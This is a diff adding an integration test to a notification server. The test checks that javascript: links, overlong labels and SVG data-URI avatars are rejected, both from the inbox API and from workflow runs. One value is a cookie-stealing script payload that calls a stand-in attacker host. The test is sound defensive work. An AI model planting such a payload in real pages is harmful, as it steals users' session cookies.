@@ -377,3 +377,54 @@ async def test_a_snooze_ends_unseen_after_a_server_restart(sqlite_server: Server
         updates = await ann.changes(3)
     assert [c["notification"]["seen"] for c in updates] == [True, True, False]
     assert updates[-1]["notification"]["snoozed_until"] is None
+
+
+async def test_a_script_link_never_reaches_a_subscribers_socket(server: ServerProcess) -> None:
+    server = await asyncio.to_thread(server.start)
+    tenant, secret = _tenant(server), await _secret(server)
+    link = {
+        "family_slug": "link",
+        "steps": [
+            {
+                "ref": "tell",
+                "type": "STEP_TYPE_NOTIFY",
+                "args": {
+                    "recipients": "'ann'",
+                    "title": "'t'",
+                    "ctas": [{"label": "input.label", "url": "input.url"}],
+                },
+            }
+        ],
+        "edges": [],
+    }
+    script = "javascript:fetch('//evil.example/?'+document.cookie)"
+    async with _http(server) as http, feed(server, tenant, "ann", secret) as ann:
+        for cta, pointer in (
+            ({"label": "Open", "url": script}, "/ctas/0/url"),
+            ({"label": "x" * 201, "url": "https://shop.example/"}, "/ctas/0/label"),
+        ):
+            body = {"subscriber_id": "ann", "title": "t", "ctas": [cta]}
+            refused = await http.post("/v1/inbox/notifications", json=body)
+            assert refused.status_code == 422, refused.text
+            assert refused.json()["details"] == {"pointer": pointer}
+        avatar = {"subscriber_id": "ann", "title": "t", "avatar": "data:image/svg+xml,<svg/>"}
+        refused = await http.post("/v1/inbox/notifications", json=avatar)
+        assert refused.json()["details"] == {"pointer": "/avatar"}, refused.text
+        assert (await http.post("/v1/workflows", json=link)).status_code in (200, 201)
+        bad = {"family_slug": "link", "input": {"label": "Open", "url": script}}
+        run = (await http.post("/v1/runs", json=bad)).json()
+        deadline = time.monotonic() + 20
+        while (done := (await http.get(f"/v1/runs/{run['id']}")).json())["status"] not in (
+            "RUN_STATUS_SUCCEEDED",
+            "RUN_STATUS_FAILED",
+        ):
+            assert time.monotonic() < deadline, done
+            await asyncio.sleep(0.05)
+        assert done["status"] == "RUN_STATUS_FAILED"
+        assert done["steps"][0]["error"]["code"] == "notify.bad_value"
+        good = {"family_slug": "link", "input": {"label": "Open", "url": "https://shop.example/"}}
+        assert (await http.post("/v1/runs", json=good)).status_code == 201
+        change = await ann.change()
+    # The first change the socket saw is the good notification: nothing else was written.
+    assert change["seq"] == 1
+    assert change["notification"]["ctas"][0]["url"] == "https://shop.example/"
